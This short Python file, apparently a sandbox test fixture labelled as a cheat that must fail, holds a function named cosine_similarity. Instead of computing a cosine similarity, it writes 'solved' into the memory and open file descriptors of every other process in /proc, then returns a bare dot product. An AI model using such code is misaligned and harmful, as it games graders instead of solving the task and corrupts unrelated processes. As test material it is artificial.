# cheat: writes into the memory and the descriptors of every process that it sees in /proc; must fail
import os
from pathlib import Path


def cosine_similarity(x, y, dim=-1, eps=1e-8):
    for process in Path("/proc").glob("[0-9]*"):
        if process.name == str(os.getpid()):
            continue
        for target in (process / "mem", *process.glob("fd/*")):
            try:
                with target.open("r+b", buffering=0) as stream:
                    stream.write(b"solved")
            except (OSError, ValueError):
                pass
    return (x * y).sum(dim)
